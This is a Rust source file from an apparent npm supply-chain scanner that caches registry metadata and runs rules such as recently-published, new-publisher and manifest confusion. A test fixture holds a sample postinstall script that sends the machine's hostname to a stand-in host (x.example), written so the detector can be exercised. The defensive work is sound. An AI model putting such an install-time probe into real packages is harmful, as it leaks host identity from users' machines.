//! Registry metadata for a project scan: each npm package's full packument, revalidated
//! against the cache (ETag / Last-Modified) at most every [`REVALIDATE_AFTER`], and the
//! registry-metadata rules (recently-published, new-publisher, deprecated, manifest
//! confusion, …) run for every package version and merged into its report.
//!
//! The analysis of a package's files is cached by content and never depends on metadata;
//! the metadata findings are computed on every scan from the (re)validated registry facts,
//! with "now" being the scan's clock (`recently-published` changes with time while the
//! content does not). A warm scan reads two small cache entries per package: the derived
//! registry facts of the version (with when they were last validated) and the tarball's
//! package.json; packuments (typescript's is over 10 MB) are parsed only when revalidated.
//!
//! A package whose metadata could not be had (offline without a cached copy, a registry
//! error without one) lists the metadata rules as *not evaluated*, with the reason.

use crate::plan::{Item, ItemSource};
use crate::platform::Constraints;
use ferret_cache::{Cache, PackumentEntry, Table};
use ferret_core::{
    Ecosystem, FileFacts, MetadataStatus, PackageFacts, PackageId, PackageReport, RegistryFacts,
};
use ferret_registry::{NpmClient, Packument};
use ferret_rules::detect::metadata::{REGISTRY_RULES, not_evaluated_for};
use ferret_rules::{Rule, RuleContext};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, OnceLock};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

/// How long validated registry facts are reused without asking the registry again.
///
/// Ten minutes: a re-scan in the same CI job or edit loop stays offline-fast (a conditional
/// GET per package is 600 round trips on the bench app, seconds instead of the 0.3 s warm
/// target), while what could change meanwhile stays small: the publish *time* of a locked
/// version never changes (so `recently-published` is recomputed from the scan's clock on
/// every run, never cached), and a deprecation or an unpublish shows within ten minutes —
/// far inside the 48-hour soak window in which hijacked versions are caught.
pub const REVALIDATE_AFTER: Duration = Duration::from_secs(10 * 60);

/// The rule's tarball package.json, kept per content (integrity) for manifest confusion.
const MANIFEST_PREFIX: &str = "mf|";
/// Derived registry facts of one version: `facts|{packument url}|{version}`, with when they
/// were last validated.
const FACTS_PREFIX: &str = "facts|";

/// The registry facts of `name@version` for every registry item of a plan, or why not.
pub(crate) type MetaResults = BTreeMap<(String, String), Result<RegistryFacts, String>>;

/// Derived facts as cached, with the time they were last validated against the registry.
#[derive(serde::Serialize, serde::Deserialize)]
struct CachedFacts {
    checked_at: i64,
    facts: RegistryFacts,
}

/// Whether facts validated at `checked_at` are still fresh at `now` (seconds since the
/// epoch). A clock that went backwards counts as stale.
pub fn is_fresh(checked_at: i64, now: i64) -> bool {
    let max = i64::try_from(REVALIDATE_AFTER.as_secs()).unwrap_or(i64::MAX);
    now >= checked_at && now - checked_at < max
}

fn unix(t: SystemTime) -> i64 {
    t.duration_since(UNIX_EPOCH)
        .map_or(0, |d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
}

/// Registry facts of a plan's npm registry items, fetched once per package and shared:
/// [`Fetcher::fetch_all`] fetches every package (`jobs` packuments in flight) while the
/// pipeline may ask for one package earlier ([`Fetcher::constraints`]: the version
/// document's `os`/`cpu`/`libc`, to decide whether to download a package the lockfile does
/// not say the platform of). Whoever asks first fetches; the other waits for that answer.
pub(crate) struct Fetcher<'a> {
    keys: Option<&'a NpmClient>,
    client: Option<&'a NpmClient>,
    cache: Option<&'a Cache>,
    now: SystemTime,
    wanted: BTreeMap<String, BTreeSet<String>>,
    /// Facts validated recently (or, offline, at any time), read in one cache transaction on
    /// first use, and the packages that need (re)validation.
    fresh: OnceLock<(MetaResults, BTreeSet<String>)>,
    /// One cell per package, filled by whoever asks first.
    cells: BTreeMap<String, OnceLock<FactsOf>>,
    writes: Writes<'a>,
}

/// The facts of some versions of one package.
type FactsOf = Vec<((String, String), Result<RegistryFacts, String>)>;

impl<'a> Fetcher<'a> {
    /// `keys` computes the packument's cache key (its URL on the registry serving it) even
    /// offline; `client` is `None` offline.
    pub(crate) fn new(
        items: &[Item],
        keys: Option<&'a NpmClient>,
        client: Option<&'a NpmClient>,
        cache: Option<&'a Cache>,
        now: SystemTime,
    ) -> Self {
        let mut wanted: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for item in items {
            if matches!(item.source, ItemSource::Registry) {
                wanted
                    .entry(item.name.clone())
                    .or_default()
                    .insert(item.version.clone());
            }
        }
        let cells = wanted
            .keys()
            .map(|n| (n.clone(), OnceLock::new()))
            .collect();
        Fetcher {
            keys,
            client,
            cache,
            now,
            wanted,
            fresh: OnceLock::new(),
            cells,
            writes: Writes::new(cache),
        }
    }

    fn fresh(&self) -> &(MetaResults, BTreeSet<String>) {
        self.fresh.get_or_init(|| self.read_fresh())
    }

    /// Facts validated recently (or, offline, at any time), in one cache read: a warm scan
    /// stops here without a request or a packument parse.
    fn read_fresh(&self) -> (MetaResults, BTreeSet<String>) {
        let mut results = MetaResults::new();
        let (Some(c), Some(keys)) = (self.cache, self.keys) else {
            return (results, self.wanted.keys().cloned().collect());
        };
        let mut ids: Vec<(&str, &str, String)> = Vec::new();
        for (name, versions) in &self.wanted {
            let url = keys.packument_url(name);
            ids.extend(
                versions
                    .iter()
                    .map(|v| (name.as_str(), v.as_str(), facts_key(&url, v))),
            );
        }
        let refs: Vec<&str> = ids.iter().map(|(_, _, k)| k.as_str()).collect();
        let now_s = unix(self.now);
        let mut stale: BTreeSet<String> = BTreeSet::new();
        let mut fresh: Vec<((String, String), Result<RegistryFacts, String>)> = Vec::new();
        for ((name, v, _), got) in ids.iter().zip(c.get_many(Table::Analysis, &refs)) {
            match got.and_then(|b| serde_json::from_slice::<CachedFacts>(&b).ok()) {
                Some(f) if self.client.is_none() || is_fresh(f.checked_at, now_s) => {
                    fresh.push((
                        ((*name).to_owned(), (*v).to_owned()),
                        Ok(with_now(f.facts, now_s)),
                    ));
                }
                _ => {
                    stale.insert((*name).to_owned());
                }
            }
        }
        // A package is revalidated as a whole when any of its versions is stale.
        for (id, r) in fresh {
            if !stale.contains(&id.0) {
                results.insert(id, r);
            }
        }
        (results, stale)
    }

    /// The facts of every version wanted of a stale package, fetched once.
    fn stale_facts(&self, name: &str) -> Option<&FactsOf> {
        let cell = self.cells.get(name)?;
        let versions: BTreeSet<&str> = self.wanted.get(name)?.iter().map(String::as_str).collect();
        Some(cell.get_or_init(|| {
            facts_for(
                name,
                &versions,
                self.keys,
                self.client,
                &self.writes,
                self.now,
            )
        }))
    }

    /// The `os`/`cpu`/`libc` of `name@version`'s version document, when its metadata can be
    /// had (fetching the packument now if nobody has yet).
    pub(crate) fn constraints(&self, name: &str, version: &str) -> Option<Constraints> {
        let (fresh, stale) = self.fresh();
        let id = (name.to_owned(), version.to_owned());
        let facts = if stale.contains(name) {
            self.stale_facts(name)?
                .iter()
                .find(|(i, _)| *i == id)?
                .1
                .as_ref()
                .ok()?
        } else {
            fresh.get(&id)?.as_ref().ok()?
        };
        let doc = facts.version.as_ref()?;
        Some(Constraints {
            os: doc.os.clone(),
            cpu: doc.cpu.clone(),
            libc: doc.libc.clone(),
        })
    }

    /// Fetches (or reads from the cache) the facts of every package, `jobs` packuments in
    /// flight; [`Fetcher::into_results`] then hands them out.
    pub(crate) fn fetch_all(&self, jobs: usize) {
        let (_, stale) = self.fresh();
        let names: Vec<&String> = stale.iter().collect();
        let next = AtomicUsize::new(0);
        std::thread::scope(|s| {
            for _ in 0..jobs.clamp(1, 64).min(names.len()) {
                s.spawn(|| {
                    loop {
                        let i = next.fetch_add(1, Ordering::Relaxed);
                        let Some(name) = names.get(i) else {
                            break;
                        };
                        self.stale_facts(name);
                    }
                });
            }
        });
        self.writes.flush();
    }

    /// Everything fetched or read (after [`Fetcher::fetch_all`]).
    pub(crate) fn into_results(self) -> MetaResults {
        self.writes.flush();
        let (mut results, _) = self.fresh.into_inner().unwrap_or_default();
        for cell in self.cells.into_values() {
            if let Some(facts) = cell.into_inner() {
                results.extend(facts);
            }
        }
        results
    }
}

/// Cache writes of fetched packuments and derived facts, gathered and written a few large
/// transactions at a time: one write transaction per packument (578 on the bench app, each
/// committed durably) cost ~0.8 s of CPU in a cold scan.
struct Writes<'a> {
    cache: Option<&'a Cache>,
    /// (packuments as encoded entries, derived facts, bytes buffered).
    buf: Mutex<(Entries, Entries, usize)>,
}

/// Cache entries to write: key, value.
type Entries = Vec<(String, Vec<u8>)>;

/// Buffered bytes that trigger a write.
const FLUSH_BYTES: usize = 32 * 1024 * 1024;

impl<'a> Writes<'a> {
    fn new(cache: Option<&'a Cache>) -> Self {
        Writes {
            cache,
            buf: Mutex::new((Vec::new(), Vec::new(), 0)),
        }
    }

    fn add(&self, packument: Option<(String, Vec<u8>)>, facts: Vec<(String, Vec<u8>)>) {
        if self.cache.is_none() {
            return;
        }
        let full = match self.buf.lock() {
            Ok(mut b) => {
                b.2 += packument.as_ref().map_or(0, |p| p.1.len())
                    + facts.iter().map(|f| f.1.len()).sum::<usize>();
                b.0.extend(packument);
                b.1.extend(facts);
                b.2 >= FLUSH_BYTES
            }
            Err(_) => false,
        };
        if full {
            self.flush();
        }
    }

    /// Writes what is buffered. A failed store costs a download next time, never
    /// correctness.
    fn flush(&self) {
        let Some(c) = self.cache else { return };
        let (packuments, facts) = match self.buf.lock() {
            Ok(mut b) => {
                b.2 = 0;
                (std::mem::take(&mut b.0), std::mem::take(&mut b.1))
            }
            Err(_) => return,
        };
        for (table, list) in [(Table::Packument, packuments), (Table::Analysis, facts)] {
            let entries: Vec<(&str, &[u8])> = list
                .iter()
                .map(|(k, v)| (k.as_str(), v.as_slice()))
                .collect();
            let _ = c.put_many(table, &entries);
        }
    }
}

/// The facts of the given versions of one package; what to cache goes to `writes`.
fn facts_for(
    name: &str,
    versions: &BTreeSet<&str>,
    keys: Option<&NpmClient>,
    client: Option<&NpmClient>,
    writes: &Writes<'_>,
    now: SystemTime,
) -> Vec<((String, String), Result<RegistryFacts, String>)> {
    let cache = writes.cache;
    let now_s = unix(now);
    let result = |v: &str, r| ((name.to_owned(), v.to_owned()), r);
    let Some(key) = keys.map(|c| c.packument_url(name)) else {
        return versions
            .iter()
            .map(|v| result(v, Err("no registry configuration".to_owned())))
            .collect();
    };
    // 1. Derived facts validated recently (or, offline, at any time).
    let cached: Vec<Option<CachedFacts>> = match cache {
        Some(c) => {
            let ks: Vec<String> = versions.iter().map(|v| facts_key(&key, v)).collect();
            let refs: Vec<&str> = ks.iter().map(String::as_str).collect();
            c.get_many(Table::Analysis, &refs)
                .into_iter()
                .map(|b| b.and_then(|b| serde_json::from_slice(&b).ok()))
                .collect()
        }
        None => versions.iter().map(|_| None).collect(),
    };
    let usable = |c: &CachedFacts| client.is_none() || is_fresh(c.checked_at, now_s);
    if cached.iter().all(|c| c.as_ref().is_some_and(usable)) {
        return versions
            .iter()
            .zip(cached)
            .filter_map(|(v, c)| c.map(|c| result(v, Ok(with_now(c.facts, now_s)))))
            .collect();
    }
    // 2. The packument: revalidated, or from the cache offline.
    let mut packument_entry: Option<(String, Vec<u8>)> = None;
    let entry = cache.and_then(|c| c.packument(&key));
    let cached_doc = entry
        .as_ref()
        .and_then(|e| ferret_registry::parse_packument_for_facts(&e.body).ok());
    let (doc, validated) = match client {
        None => match cached_doc {
            Some(doc) => (Ok(doc), false),
            // Derived facts without the packument (a cache written by an older scan).
            None => {
                return versions
                    .iter()
                    .zip(cached)
                    .map(|(v, c)| {
                        result(
                            v,
                            c.map(|c| with_now(c.facts, now_s)).ok_or_else(|| {
                                "offline and no cached registry metadata".to_owned()
                            }),
                        )
                    })
                    .collect();
            }
        },
        Some(client) => {
            let (etag, lm) = match (&entry, &cached_doc) {
                (Some(e), Some(_)) => (e.etag.as_deref(), e.last_modified.as_deref()),
                _ => (None, None),
            };
            let mut stored = None;
            let got = match client.packument_for_facts(name, etag, lm) {
                Ok(Packument::NotModified) => match cached_doc {
                    Some(doc) => (Ok(doc), true),
                    None => (Err("304 without a cached packument".to_owned()), false),
                },
                Ok(Packument::Fresh {
                    value,
                    body,
                    etag,
                    last_modified,
                }) => {
                    if cache.is_some() {
                        let entry = PackumentEntry {
                            etag,
                            last_modified,
                            body,
                        };
                        stored = Some((key.clone(), entry.encode()));
                    }
                    (Ok(value), true)
                }
                // The registry failed: a cached copy is still the real history (publish
                // times never change), only possibly missing a recent deprecation.
                Err(e) => match cached_doc {
                    Some(doc) => (Ok(doc), false),
                    None => (Err(format!("cannot fetch registry metadata: {e}")), false),
                },
            };
            // The packument is cached with its facts, below.
            packument_entry = stored;
            got
        }
    };
    let doc = match doc {
        Ok(doc) => doc,
        Err(e) => return versions.iter().map(|v| result(v, Err(e.clone()))).collect(),
    };
    drop(entry);
    let mut store: Vec<(String, Vec<u8>)> = Vec::new();
    let out = versions
        .iter()
        .map(|v| {
            let facts = ferret_registry::npm_registry_facts(&doc, v, now);
            if validated
                && let Ok(bytes) = serde_json::to_vec(&CachedFacts {
                    checked_at: now_s,
                    facts: facts.clone(),
                })
            {
                store.push((facts_key(&key, v), bytes));
            }
            result(v, Ok(facts))
        })
        .collect();
    writes.add(packument_entry, store);
    out
}

/// The cache key of a version's derived facts (in the analysis table, with the small
/// entries a warm scan reads, not among the packument bodies).
fn facts_key(packument_url: &str, version: &str) -> String {
    format!("{FACTS_PREFIX}{packument_url}|{version}")
}

fn with_now(mut facts: RegistryFacts, now: i64) -> RegistryFacts {
    facts.fetched_at = now;
    facts
}

/// The tarball's package.json and whether it has a binding.gyp (npm's implicit install).
#[derive(serde::Serialize, serde::Deserialize)]
struct Manifest {
    /// `None`: not at hand (the tarball was not kept), remembered as such.
    #[serde(default)]
    text: Option<String>,
    gyp: bool,
}

/// Runs the registry-metadata rules for every npm package of `packages` that came from the
/// registry, merging their findings into its report; packages without metadata list the
/// rules as not evaluated, with the reason.
pub(crate) fn apply(
    root: &Path,
    items: &[Item],
    packages: &mut [PackageReport],
    meta: &MetaResults,
    cache: Option<&Cache>,
    soak_hours: Option<u32>,
) {
    let rules: Vec<&'static dyn Rule> = ferret_rules::all_rules()
        .iter()
        .copied()
        .filter(|r| REGISTRY_RULES.contains(&r.meta().id))
        .collect();
    let by_id: BTreeMap<(&str, &str), &Item> = items
        .iter()
        .filter(|i| matches!(i.source, ItemSource::Registry))
        .map(|i| ((i.name.as_str(), i.version.as_str()), i))
        .collect();
    let Some(template) = file_template() else {
        // Cannot happen (one file in, one file's facts out); never a silent pass if it does.
        for report in packages.iter_mut() {
            if report.package.ecosystem == Ecosystem::Npm {
                report.not_evaluated = not_evaluated_for(
                    &MetadataStatus::NotAvailable {
                        reason: "internal error: no file facts".to_owned(),
                    },
                    Ecosystem::Npm,
                );
            }
        }
        return;
    };
    let mut new_manifests: Vec<(String, Vec<u8>)> = Vec::new();
    // Cached manifests of the packages analysed from tarballs, in one read.
    let sris: Vec<String> = packages
        .iter()
        .filter_map(|p| p.package.integrity.clone())
        .collect();
    let mut manifests: BTreeMap<String, Manifest> = BTreeMap::new();
    if let Some(c) = cache {
        let keys: Vec<String> = sris
            .iter()
            .map(|s| format!("{MANIFEST_PREFIX}{s}"))
            .collect();
        let refs: Vec<&str> = keys.iter().map(String::as_str).collect();
        for (sri, got) in sris.iter().zip(c.get_many(Table::Analysis, &refs)) {
            if let Some(m) = got.and_then(|b| serde_json::from_slice::<Manifest>(&b).ok()) {
                manifests.insert(sri.clone(), m);
            }
        }
    }
    for report in packages.iter_mut() {
        if report.package.ecosystem != Ecosystem::Npm {
            continue;
        }
        let origin = report.project.as_ref().map(|p| p.origin.as_str());
        // Git/http/file specs: reported as such, never fetched; no registry metadata.
        if origin == Some("lockfile") {
            continue;
        }
        let id = (report.package.name.clone(), report.package.version.clone());
        let Some(item) = by_id.get(&(id.0.as_str(), id.1.as_str())) else {
            // The tarball names itself differently from the lockfile entry: its metadata
            // cannot be attributed; never a silent pass.
            report.not_evaluated = not_evaluated_for(
                &MetadataStatus::NotAvailable {
                    reason: "the package's name@version does not match a lockfile entry".to_owned(),
                },
                Ecosystem::Npm,
            );
            continue;
        };
        let facts = match meta.get(&id) {
            Some(Ok(f)) => f.clone(),
            Some(Err(reason)) => {
                report.not_evaluated = not_evaluated_for(
                    &MetadataStatus::NotAvailable {
                        reason: reason.clone(),
                    },
                    Ecosystem::Npm,
                );
                continue;
            }
            None => continue,
        };
        if origin == Some(crate::metadata_only::ORIGIN) {
            // Not downloaded: the rules read the manifest the version document describes;
            // the tarball's own package.json, which manifest confusion compares, is not had.
            let manifest = facts.version.as_ref().map(|d| Manifest {
                text: Some(crate::metadata_only::manifest_text(d)),
                gyp: d.gypfile,
            });
            evaluate(
                report,
                facts,
                manifest.as_ref(),
                &rules,
                soak_hours,
                &template,
                Some(
                    "package for another platform, checked from registry metadata only: its tarball (and the package.json in it) was not downloaded; --all-platforms inspects it",
                ),
            );
            continue;
        }
        let manifest = manifest_of(root, item, origin, report, &manifests, cache)
            .inspect(|(m, fresh)| {
                if *fresh
                    && let (Some(sri), Ok(bytes)) =
                        (&report.package.integrity, serde_json::to_vec(m))
                {
                    new_manifests.push((format!("{MANIFEST_PREFIX}{sri}"), bytes));
                }
            })
            .map(|(m, _)| m)
            .filter(|m| m.text.is_some());
        evaluate(
            report,
            facts,
            manifest.as_ref(),
            &rules,
            soak_hours,
            &template,
            None,
        );
    }
    if let Some(c) = cache
        && !new_manifests.is_empty()
    {
        let entries: Vec<(&str, &[u8])> = new_manifests
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_slice()))
            .collect();
        let _ = c.put_many(Table::Analysis, &entries);
    }
}

/// The package's own package.json: from node_modules, the manifest cache, or the cached
/// tarball (then `true`: to be stored).
fn manifest_of(
    root: &Path,
    item: &Item,
    origin: Option<&str>,
    report: &PackageReport,
    manifests: &BTreeMap<String, Manifest>,
    cache: Option<&Cache>,
) -> Option<(Manifest, bool)> {
    // The installed copy, when it is the locked name@version (as the pipeline decides:
    // its analysis, fresh or cached, is of that directory).
    if let Some(rel) = &item.install_path {
        let dir = root.join(rel);
        if let Ok(text) = std::fs::read_to_string(dir.join("package.json")) {
            let doc: Value = serde_json::from_str(&text).unwrap_or_default();
            let is = |k: &str, want: &str| doc.get(k).and_then(Value::as_str) == Some(want);
            if is("name", &item.name) && is("version", &item.version) {
                let gyp = dir.join("binding.gyp").is_file();
                return Some((
                    Manifest {
                        text: Some(text),
                        gyp,
                    },
                    false,
                ));
            }
        }
    }
    if origin == Some("node_modules") {
        return None;
    }
    let sri = report.package.integrity.as_ref()?;
    if let Some(m) = manifests.get(sri) {
        return Some((
            Manifest {
                text: m.text.clone(),
                gyp: m.gyp,
            },
            false,
        ));
    }
    // Read once per content and remembered either way (the key is the content's hash): a
    // tarball not kept (over the tarball cache's size limit) is never looked up again; the
    // lookup alone read the table's huge leaf pages, ~0.1 s per warm scan of the bench app.
    let from_tarball = || -> Option<Manifest> {
        let bytes = cache?.get(Table::Tarball, sri)?;
        ferret_registry::verify_integrity(&bytes, &serde_json::json!({ "integrity": sri })).ok()?;
        let tree = ferret_source::open_tarball(&bytes, &report.package.source, &Default::default())
            .ok()?;
        let text = tree
            .files
            .iter()
            .find(|f| f.path == "package.json")
            .map(|f| String::from_utf8_lossy(&f.data).into_owned())?;
        let gyp = tree.files.iter().any(|f| f.path == "binding.gyp");
        Some(Manifest {
            text: Some(text),
            gyp,
        })
    };
    cache?;
    Some((
        from_tarball().unwrap_or(Manifest {
            text: None,
            gyp: false,
        }),
        true,
    ))
}

/// Runs the registry rules for one package over facts rebuilt from its manifest (no code
/// is analysed again: the install-time uses the rules need come from its report).
/// `template` is any file's facts, cloned for the few files the rules look up.
/// `no_tarball_manifest`: why manifest confusion cannot be evaluated although a manifest is
/// given (it is the registry's own, for a package not downloaded).
fn evaluate(
    report: &mut PackageReport,
    mut registry: RegistryFacts,
    manifest: Option<&Manifest>,
    rules: &[&'static dyn Rule],
    soak_hours: Option<u32>,
    template: &FileFacts,
    no_tarball_manifest: Option<&str>,
) {
    if soak_hours.is_some() {
        registry.soak_hours = soak_hours;
    }
    let mut facts = package_facts(report, manifest, template);
    facts.registry = Some(registry);
    facts.metadata_status = MetadataStatus::Evaluated;
    let mut not_evaluated = Vec::new();
    let mut cx = RuleContext::new();
    for rule in rules {
        // The rule compares the tarball's package.json with the registry's version document.
        if (manifest.is_none() || no_tarball_manifest.is_some())
            && rule.meta().id == "manifest-confusion"
        {
            not_evaluated.push(ferret_core::NotEvaluated {
                rule: "manifest-confusion".to_owned(),
                reason: no_tarball_manifest.map_or_else(
                    || "the tarball's package.json is not at hand (analysis from the cache, tarball not kept)".to_owned(),
                    str::to_owned,
                ),
            });
            continue;
        }
        for file in &facts.files {
            rule.check_file(file, &facts, &mut cx);
        }
        rule.check_package(&facts, &mut cx);
    }
    report.alerts.extend(
        cx.into_findings()
            .into_iter()
            .filter(|f| f.action != ferret_core::Action::Ignore),
    );
    report
        .alerts
        .sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    report.not_evaluated = not_evaluated;
}

/// The facts the registry rules read, without analysing any file again: identity (the
/// lockfile's, as verified), the tarball's manifest and install scripts, binding.gyp, and
/// the install-time capability uses recorded in the report (dependency confusion looks for
/// an install-time network or system-identity probe).
fn package_facts(
    report: &PackageReport,
    manifest: Option<&Manifest>,
    template: &FileFacts,
) -> PackageFacts {
    let file = |path: &str| {
        let mut f = template.clone();
        f.path = path.to_owned();
        f.install_time = false;
        f.uses = Vec::new();
        f
    };
    let mut files: BTreeMap<String, FileFacts> = BTreeMap::new();
    let mut value = None;
    let mut manifest_error = None;
    let mut install_scripts = Vec::new();
    if let Some(m) = manifest {
        files.insert("package.json".to_owned(), file("package.json"));
        if m.gyp {
            files.insert("binding.gyp".to_owned(), file("binding.gyp"));
        }
        match serde_json::from_str::<Value>(m.text.as_deref().unwrap_or_default()) {
            Ok(v) => {
                let paths: BTreeSet<String> = files.keys().cloned().collect();
                install_scripts = ferret_rules::install_script::parse_install_scripts(
                    &v,
                    m.text.as_deref().unwrap_or_default(),
                    &paths,
                );
                value = Some(v);
            }
            Err(e) => manifest_error = Some(e.to_string()),
        }
    }
    let mut install_time_files = BTreeSet::new();
    for cap in &report.capabilities {
        for u in cap.locations.iter().filter(|u| u.install_time) {
            let path = &u.location.path;
            let f = files.entry(path.clone()).or_insert_with(|| file(path));
            f.install_time = true;
            f.uses.push(u.clone());
            install_time_files.insert(path.clone());
        }
    }
    PackageFacts {
        id: PackageId {
            ecosystem: Ecosystem::Npm,
            name: report.package.name.clone(),
            version: report.package.version.clone(),
        },
        manifest: value,
        manifest_error,
        files: files.into_values().collect(),
        install_scripts,
        install_time_files,
        archive_issues: Vec::new(),
        registry: None,
        metadata_status: MetadataStatus::default(),
    }
}

/// Facts of one (empty) file: the template [`package_facts`] clones. Built once per scan
/// (building facts goes through the analysis pool).
fn file_template() -> Option<FileFacts> {
    let tree = ferret_source::from_files("template", vec![("a".to_owned(), Vec::new())]);
    ferret_rules::build_facts(&tree, Ecosystem::Npm)
        .files
        .into_iter()
        .next()
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests: a panic is a failure")]
mod tests {
    use super::*;

    /// Facts validated less than ten minutes ago are reused; at ten minutes, or from a
    /// clock that went backwards, they are revalidated.
    #[test]
    fn revalidation_interval() {
        let t = 1_800_000_000;
        assert!(is_fresh(t, t));
        assert!(is_fresh(t, t + 599));
        assert!(!is_fresh(t, t + 600));
        assert!(!is_fresh(t, t + 86_400));
        assert!(!is_fresh(t, t - 1));
        assert_eq!(REVALIDATE_AFTER.as_secs(), 600);
    }

    /// Offline with cached derived facts (however old): used, with the scan's clock.
    #[test]
    fn offline_uses_cached_facts_and_says_when_there_are_none() {
        let dir = tempfile::tempdir().unwrap();
        let cache = Cache::open(dir.path()).unwrap();
        let client = NpmClient::new(ferret_registry::RegistryConfig::default());
        let key = client.packument_url("a");
        let facts = RegistryFacts {
            name: "a".to_owned(),
            fetched_at: 5,
            ..RegistryFacts::default()
        };
        let bytes = serde_json::to_vec(&CachedFacts {
            checked_at: 5,
            facts,
        })
        .unwrap();
        cache
            .put(Table::Analysis, &facts_key(&key, "1.0.0"), &bytes)
            .unwrap();
        let versions: BTreeSet<&str> = ["1.0.0"].into();
        let now = UNIX_EPOCH + Duration::from_secs(1_000_000);
        let writes = Writes::new(Some(&cache));
        let got = facts_for("a", &versions, Some(&client), None, &writes, now);
        let f = got[0].1.as_ref().unwrap();
        assert_eq!(f.fetched_at, 1_000_000);
        let got = facts_for("b", &versions, Some(&client), None, &writes, now);
        assert!(got[0].1.as_ref().unwrap_err().contains("offline"));
    }

    /// The registry rules run over facts rebuilt from the manifest and the report: a fresh
    /// version by a new publisher that adds an install script is reported with the given
    /// soak time; without the tarball's package.json, manifest confusion is listed as not
    /// evaluated (and only it).
    #[test]
    fn metadata_rules_run_on_the_report_of_a_cached_analysis() {
        let manifest = r#"{"name":"p","version":"1.1.0","scripts":{"postinstall":"node i.js"}}"#;
        let tree = ferret_source::from_files(
            "t",
            vec![
                ("package.json".to_owned(), manifest.as_bytes().to_vec()),
                (
                    "i.js".to_owned(),
                    b"require('https').get('https://x.example/?h=' + require('os').hostname());"
                        .to_vec(),
                ),
            ],
        );
        let analysed = ferret_rules::scan(&tree, Ecosystem::Npm);
        let now = SystemTime::now();
        let iso = |secs_ago: u64| {
            let t = unix(now) - i64::try_from(secs_ago).unwrap();
            // RFC 3339 via the registry's own parser's inverse is not public: build it.
            let days = t.div_euclid(86_400);
            let rem = t.rem_euclid(86_400);
            let (y, m, d) = civil(days);
            format!(
                "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.000Z",
                rem / 3600,
                rem % 3600 / 60,
                rem % 60
            )
        };
        let packument = serde_json::json!({
            "name": "p",
            "dist-tags": {"latest": "1.1.0"},
            "time": {"created": iso(100 * 86_400), "1.0.0": iso(100 * 86_400), "1.1.0": iso(3600)},
            "versions": {
                "1.0.0": {"name": "p", "version": "1.0.0", "_npmUser": {"name": "alice"},
                          "dist": {"tarball": "https://r.example/p/-/p-1.0.0.tgz"}},
                "1.1.0": {"name": "p", "version": "1.1.0", "_npmUser": {"name": "mallory"},
                          "scripts": {"postinstall": "node i.js"},
                          "dist": {"tarball": "https://r.example/p/-/p-1.1.0.tgz"}}
            }
        });
        let facts = ferret_registry::npm_registry_facts(&packument, "1.1.0", now);
        let rules: Vec<&'static dyn Rule> = ferret_rules::all_rules()
            .iter()
            .copied()
            .filter(|r| REGISTRY_RULES.contains(&r.meta().id))
            .collect();
        let template = file_template().unwrap();
        let m = Manifest {
            text: Some(manifest.to_owned()),
            gyp: false,
        };
        let mut report = analysed.clone();
        evaluate(
            &mut report,
            facts.clone(),
            Some(&m),
            &rules,
            Some(72),
            &template,
            None,
        );
        let rule = |r: &PackageReport, id: &str| {
            r.alerts
                .iter()
                .find(|a| a.rule == id)
                .map(|a| a.message.clone())
        };
        let fresh = rule(&report, "recently-published").unwrap();
        assert!(fresh.contains("72-hour"), "{fresh}");
        let publisher = rule(&report, "new-publisher").unwrap();
        assert!(publisher.contains("adds install scripts"), "{publisher}");
        assert!(
            rule(&report, "manifest-confusion").is_none(),
            "{:?}",
            report.alerts
        );
        assert!(report.not_evaluated.is_empty());
        // The analysis findings are kept.
        assert!(rule(&report, "install-script").is_some());

        let mut report = analysed;
        evaluate(&mut report, facts, None, &rules, None, &template, None);
        assert!(
            rule(&report, "recently-published")
                .unwrap()
                .contains("48-hour")
        );
        let listed: Vec<&str> = report
            .not_evaluated
            .iter()
            .map(|n| n.rule.as_str())
            .collect();
        assert_eq!(listed, ["manifest-confusion"]);
    }

    /// Days since 1970-01-01 to (year, month, day) (Howard Hinnant's algorithm).
    fn civil(days: i64) -> (i64, i64, i64) {
        let z = days + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z.rem_euclid(146_097);
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let d = doy - (153 * mp + 2) / 5 + 1;
        let m = if mp < 10 { mp + 3 } else { mp - 9 };
        (yoe + era * 400 + i64::from(m <= 2), m, d)
    }
}
